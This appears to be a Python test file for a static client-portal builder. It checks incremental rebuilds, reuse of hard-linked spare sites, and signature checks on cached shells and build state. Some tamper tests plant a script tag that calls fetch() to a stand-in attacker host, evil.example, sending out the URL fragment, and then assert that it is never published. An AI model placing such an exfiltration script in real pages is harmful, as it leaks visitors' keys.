"""Rebuilds build only what changed, and end exactly where a full build would."""

from __future__ import annotations

import hashlib
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

import handover
from handover.caching import read_json, write_json
from handover.rendering import DEFAULT_TEMPLATES
from tests import sealed
from tests.conftest import MINIMAL_CASE, REPO, Project

CLIENTS = ("alpha", "beta", "gamma")
FILES = {"documents/payroll.csv": b"month,total\n2026-11,1000\n"}


def tree(site: Path) -> dict[str, str]:
    """Every file of a site by relative path, with the SHA-256 of its bytes."""
    return {
        p.relative_to(site).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(site.rglob("*"))
        if p.is_file()
    }


@pytest.fixture
def portal(project: Project) -> Project:
    for client in CLIENTS:
        project.write_case(client, MINIMAL_CASE.replace("Minimal Client", client.title()), FILES)
    result = project.run("build", "--today", "2026-12-01")
    assert result.exit_code == 0, result.output
    assert "Built 3 client pages" in result.output
    return project


def edit(project: Project, client: str, old: str, new: str) -> None:
    path = project.cases / client / "case.yaml"
    path.write_text(path.read_text(encoding="utf-8").replace(old, new), encoding="utf-8")


def full_build(project: Project, site: Path, today: str = "2026-12-01") -> dict[str, str]:
    (project.root / ".handover" / "cache" / "last-build.json").unlink(missing_ok=True)
    result = project.run("build", "--today", today, "--site-dir", str(site))
    assert result.exit_code == 0, result.output
    return tree(site)


def test_nothing_changed_nothing_built(portal: Project) -> None:
    before = tree(portal.site)
    result = portal.run("build", "--today", "2026-12-01")
    assert "Built 0 client pages (3 unchanged, kept)" in result.output
    assert tree(portal.site) == before


def test_one_edit_builds_one_page_and_matches_a_full_build(portal: Project, tmp_path: Path) -> None:
    edit(portal, "beta", "Monthly payroll", "Quarterly payroll")
    result = portal.run("build", "--today", "2026-12-01")
    assert "Built 1 client page (2 unchanged, kept)" in result.output
    assert "Quarterly payroll" in sealed.open_page(portal.site, "beta")[0]
    assert tree(portal.site) == full_build(portal, tmp_path / "full")


def test_a_removed_case_leaves_the_site(portal: Project) -> None:
    page = sealed.page_dir(portal.site, "gamma")
    assert page.is_dir()
    for path in sorted((portal.cases / "gamma").rglob("*"), reverse=True):
        path.unlink() if path.is_file() else path.rmdir()
    (portal.cases / "gamma").rmdir()
    result = portal.run("build", "--today", "2026-12-01")
    assert "Built 0 client pages (2 unchanged, kept)" in result.output
    assert not page.exists()


def test_a_page_missing_from_the_site_is_built_again(portal: Project) -> None:
    page = sealed.page_dir(portal.site, "alpha") / "index.html"
    page.unlink()
    result = portal.run("build", "--today", "2026-12-01")
    assert "Built 1 client page (2 unchanged, kept)" in result.output
    assert page.is_file()


def test_a_bad_edit_fails_and_keeps_the_previous_site(portal: Project) -> None:
    before = tree(portal.site)
    edit(portal, "alpha", "status: ended", "status: finished")
    result = portal.run("build", "--today", "2026-12-01")
    assert result.exit_code == 1
    assert "cases/alpha/case.yaml:7: services[0].status: must be one of" in result.output
    assert tree(portal.site) == before
    edit(portal, "alpha", "status: finished", "status: transferred")
    result = portal.run("build", "--today", "2026-12-01")
    assert "Built 1 client page (2 unchanged, kept)" in result.output


def test_a_template_change_rebuilds_every_page(portal: Project) -> None:
    templates = portal.root / "site_templates"
    templates.unlink()  # a symlink to the repo's templates: make a private copy to edit
    shutil.copytree(REPO / "site_templates", templates)
    page = templates / "page.html.j2"  # overrides the package's own page template
    default = (DEFAULT_TEMPLATES / "page.html.j2").read_text(encoding="utf-8")
    page.write_text(default + "\nTemplate marker 42.\n", encoding="utf-8")
    result = portal.run("build", "--today", "2026-12-01")
    assert "Built 3 client pages" in result.output
    assert "Template marker 42." in sealed.open_page(portal.site, "alpha")[0]


#: A build in a fresh process (no test threads, so it may fork) that forks from 2 cases on,
#: and says whether it forked.
FORKING_BUILD = """
import sys
from concurrent.futures import ProcessPoolExecutor
import handover.preparing as preparing
from handover.cli import cli

preparing.PARALLEL_FROM = 2
pools = []
class CountedPool(ProcessPoolExecutor):
    def __init__(self, *args, **kwargs):
        pools.append(self)
        super().__init__(*args, **kwargs)
preparing.ProcessPoolExecutor = CountedPool
try:
    cli(sys.argv[1:], standalone_mode=False)
finally:
    print("pools:", len(pools))
"""


def test_pages_prepared_on_all_cores_equal_pages_prepared_in_one(
    portal: Project, tmp_path: Path
) -> None:
    """Large builds fork workers that also convert the Markdown; their site must be the one
    a single process (and MkDocs' own conversion) builds, for pages with every section."""
    from tests.test_client_page import FILES as ALL_FILES
    from tests.test_client_page import FULL_CASE

    portal.write_case("complete", FULL_CASE, ALL_FILES)
    one_process = full_build(portal, tmp_path / "one")
    (portal.root / ".handover" / "cache" / "last-build.json").unlink()
    forked = tmp_path / "forked"
    result = subprocess.run(
        [sys.executable, "-c", FORKING_BUILD, "build", "--today", "2026-12-01", "-d", str(forked)],
        cwd=portal.root,
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 0, result.stdout + result.stderr
    assert "pools: 1" in result.stdout, "the build forked its workers"
    assert tree(forked) == one_process


# -- The spare beside the site (handover.swapping) ------------------------------------------


def inodes(site: Path) -> dict[str, int]:
    return {p.relative_to(site).as_posix(): p.stat().st_ino for p in site.rglob("*") if p.is_file()}


def spare_of(project: Project) -> Path:
    return project.root / ".site.spare"


def test_after_a_rebuild_the_spare_holds_the_site_s_own_files(portal: Project) -> None:
    """The next rebuild starts from the spare: every file of the site is already in it, as a
    hard link, so only what changes is written."""
    assert not spare_of(portal).exists()  # a build of every page leaves no spare
    edit(portal, "beta", "Monthly payroll", "Quarterly payroll")
    assert (
        "Built 1 client page (2 unchanged, kept)"
        in portal.run("build", "--today", "2026-12-01").output
    )
    assert inodes(spare_of(portal)) == inodes(portal.site)
    edit(portal, "gamma", "Monthly payroll", "Annual payroll")
    kept = sealed.page_dir(portal.site, "alpha") / "index.html"
    before = kept.stat().st_ino
    assert (
        "Built 1 client page (2 unchanged, kept)"
        in portal.run("build", "--today", "2026-12-01").output
    )
    assert kept.stat().st_ino == before  # not linked again: the spare had it
    assert inodes(spare_of(portal)) == inodes(portal.site)


def test_a_removed_client_leaves_neither_the_site_nor_the_spare(portal: Project) -> None:
    edit(portal, "beta", "Monthly payroll", "Quarterly payroll")
    portal.run("build", "--today", "2026-12-01")
    gone = sealed.page_dir(portal.site, "gamma").name
    shutil.rmtree(portal.cases / "gamma")
    assert (
        "Built 0 client pages (2 unchanged, kept)"
        in portal.run("build", "--today", "2026-12-01").output
    )
    assert not (portal.site / gone).exists()
    assert not (spare_of(portal) / gone).exists()
    assert inodes(spare_of(portal)) == inodes(portal.site)


@pytest.mark.parametrize("damage", ["replaced page", "foreign record", "no record"])
def test_a_spare_that_cannot_be_trusted_is_not_used(
    portal: Project, tmp_path: Path, damage: str
) -> None:
    edit(portal, "beta", "Monthly payroll", "Quarterly payroll")
    portal.run("build", "--today", "2026-12-01")
    record = portal.root / ".handover" / "cache" / "spare-site.json"
    if damage == "replaced page":  # someone wrote into the spare: its page is not the site's
        page = sealed.page_dir(spare_of(portal), "alpha") / "index.html"
        page.unlink()
        page.write_text("<p>planted</p>")
    elif damage == "foreign record":
        write_json(record, {"site": str(portal.site), "generation": "another build"})
    else:
        record.unlink()
    edit(portal, "gamma", "Monthly payroll", "Annual payroll")
    assert (
        "Built 1 client page (2 unchanged, kept)"
        in portal.run("build", "--today", "2026-12-01").output
    )
    assert tree(portal.site) == full_build(portal, tmp_path / "full")


def test_bytecode_python_writes_rebuilds_nothing(portal: Project) -> None:
    """Python writes ``__pycache__`` when it likes (not at all under PYTHONDONTWRITEBYTECODE):
    the tool's own code is its source, so new bytecode must not rebuild every page."""
    cache = Path(handover.__file__).parent / "__pycache__"
    cache.mkdir(exist_ok=True)
    probe = cache / "written-by-test_build_incremental.cpython-311.pyc"
    try:
        probe.write_bytes(b"not really bytecode")
        result = portal.run("build", "--today", "2026-12-01")
    finally:
        probe.unlink(missing_ok=True)
    assert result.output == f"Built 0 client pages (3 unchanged, kept) into {portal.site}\n"


# -- Rebuilds without the theme (shells cached, signed) ---------------------------------------


def test_a_rebuild_writes_only_the_edited_page(portal: Project) -> None:
    """Nothing the theme renders changed, so it is not run: the shells it rendered before
    make the page, and its files (assets, 404 page, home) are the live site's own."""
    edited = sealed.page_dir(portal.site, "beta").name
    before = inodes(portal.site)
    edit(portal, "beta", "Monthly payroll", "Quarterly payroll")
    assert (
        "Built 1 client page (2 unchanged, kept)"
        in portal.run("build", "--today", "2026-12-01").output
    )
    after = inodes(portal.site)
    assert {path.split("/")[0] for path in after if after[path] != before.get(path)} == {edited}
    assert "Quarterly payroll" in sealed.open_page(portal.site, "beta")[0]


def test_a_planted_shell_is_never_published(portal: Project, tmp_path: Path) -> None:
    """The cached shells decide what every rebuilt page holds, so they are signed with a key
    from the master secret: one planted in a shared CI cache is ignored."""
    cache = portal.root / ".handover" / "cache" / "shells.json"
    stored = read_json(cache)
    assert stored is not None
    planted = "<script>fetch('https://evil.example/'+location.hash)</script>"
    for row in stored["data"]["shells"]:
        row[3] = row[3].replace("</head>", planted + "</head>")
    write_json(cache, stored)  # a good checksum, a signature that no longer holds
    edit(portal, "beta", "Monthly payroll", "Quarterly payroll")
    assert (
        "Built 1 client page (2 unchanged, kept)"
        in portal.run("build", "--today", "2026-12-01").output
    )
    assert not any(b"evil.example" in p.read_bytes() for p in portal.site.rglob("*") if p.is_file())
    assert tree(portal.site) == full_build(portal, tmp_path / "full")


def test_a_page_in_a_language_no_shell_was_made_for_runs_the_theme(
    portal: Project, tmp_path: Path
) -> None:
    edit(portal, "beta", "client:", "language: de\nclient:")
    assert (
        "Built 1 client page (2 unchanged, kept)"
        in portal.run("build", "--today", "2026-12-01").output
    )
    assert 'lang="de"' in (sealed.page_dir(portal.site, "beta") / "index.html").read_text()
    assert tree(portal.site) == full_build(portal, tmp_path / "full")


def test_a_theme_file_missing_from_the_site_runs_the_theme(portal: Project, tmp_path: Path) -> None:
    (portal.site / "404.html").unlink()
    edit(portal, "beta", "Monthly payroll", "Quarterly payroll")
    assert (
        "Built 1 client page (2 unchanged, kept)"
        in portal.run("build", "--today", "2026-12-01").output
    )
    assert (portal.site / "404.html").is_file()
    assert tree(portal.site) == full_build(portal, tmp_path / "full")


def test_a_build_of_every_page_links_the_encrypted_files_the_live_site_holds(
    portal: Project,
) -> None:
    """A file's name is derived from its content, so the live site's file of the same name
    is the same bytes: a build of every page (here after an edit to mkdocs.yml) links it
    instead of copying it out of the cache again. One whose size is wrong is not trusted."""
    encrypted = {k: v for k, v in inodes(portal.site).items() if "/f/" in k}
    damaged = sorted(encrypted)[0]
    (portal.site / damaged).write_bytes(b"not what was published")
    with portal.config.open("a", encoding="utf-8") as config:
        config.write("# every page depends on this file\n")
    assert "Built 3 client pages" in portal.run("build", "--today", "2026-12-01").output
    after = {k: v for k, v in inodes(portal.site).items() if "/f/" in k}
    assert after.keys() == encrypted.keys()
    assert [k for k in after if after[k] != encrypted[k]] == [damaged]
    for client in CLIENTS:
        assert (
            sealed.open_file(portal.site, client, "files/documents/payroll.csv")
            == FILES["documents/payroll.csv"]
        )


PLANTED = b"<script>fetch('https://evil.example/'+location.hash)</script>"


def restored_from_a_shared_cache(site: Path) -> None:
    """What CI does each day: the site comes back from a cache, as new files."""
    for path in [p for p in site.rglob("*") if p.is_file()]:
        data = path.read_bytes()
        path.unlink()
        path.write_bytes(data)


def test_a_site_restored_from_a_shared_cache_is_published_only_as_this_tool_wrote_it(
    portal: Project, tmp_path: Path
) -> None:
    """CI keeps the site between runs so that a new day keeps pages; whoever can write that
    cache could plant a page, a file in a page's folder or a script of the theme. A page is
    kept only while its folder is exactly what the last build wrote (recorded in the signed
    build state), and the theme's files are carried over only while their bytes match."""
    restored_from_a_shared_cache(portal.site)
    alpha = sealed.page_dir(portal.site, "alpha")
    beta = sealed.page_dir(portal.site, "beta")
    page = alpha / "index.html"
    page.write_bytes(page.read_bytes().replace(b"</head>", PLANTED + b"</head>"))
    (beta / "f" / "extra.html").write_bytes(PLANTED)
    script = portal.site / "assets" / "handover.js"
    script.write_bytes(script.read_bytes() + PLANTED)
    result = portal.run("build", "--today", "2026-12-01")
    assert "Built 2 client pages (1 unchanged, kept)" in result.output
    assert not any(PLANTED in p.read_bytes() for p in portal.site.rglob("*") if p.is_file())
    assert tree(portal.site) == full_build(portal, tmp_path / "full")


def test_a_build_state_not_signed_by_this_portal_keeps_no_page(portal: Project) -> None:
    state = portal.root / ".handover" / "cache" / "last-build.json"
    stored = read_json(state)
    assert stored is not None
    stored["mac"] = "0" * 64
    write_json(state, stored)  # a good checksum, a signature that no longer holds
    assert "Built 3 client pages" in portal.run("build", "--today", "2026-12-01").output


def test_files_the_live_site_holds_are_not_encrypted_again_when_the_cache_lost_them(
    portal: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    from handover.caching import SealedFiles

    encrypted: list[str] = []
    encrypt = SealedFiles.encrypt

    def spy(self: SealedFiles, download: Any) -> Path:
        encrypted.append(download.site_path)
        return encrypt(self, download)

    monkeypatch.setattr(SealedFiles, "encrypt", spy)
    shutil.rmtree(portal.root / ".handover" / "cache" / "sealed")
    before = {k: v for k, v in inodes(portal.site).items() if "/f/" in k}
    with portal.config.open("a", encoding="utf-8") as config:
        config.write("# every page depends on this file\n")
    assert "Built 3 client pages" in portal.run("build", "--today", "2026-12-01").output
    assert encrypted == []
    assert {k: v for k, v in inodes(portal.site).items() if "/f/" in k} == before


def test_an_edit_to_a_parent_mkdocs_yml_inherits_builds_every_page(project: Project) -> None:
    """What every page shows comes from mkdocs.yml as MkDocs resolves it, parents too."""
    base = project.root / "base.yml"
    base.write_bytes(project.config.read_bytes())
    project.config.write_text("INHERIT: base.yml\n", encoding="utf-8")
    for client in CLIENTS:
        project.write_case(client, MINIMAL_CASE.replace("Minimal Client", client.title()), FILES)
    assert "Built 3 client pages" in project.run("build", "--today", "2026-12-01").output
    assert "(3 unchanged, kept)" in project.run("build", "--today", "2026-12-01").output
    text = base.read_text(encoding="utf-8")
    base.write_text(text.replace("hello@example-partners.example", "office@example.org"))
    assert "Built 3 client pages" in project.run("build", "--today", "2026-12-01").output
    assert "office@example.org" in sealed.open_page(project.site, "alpha")[0]
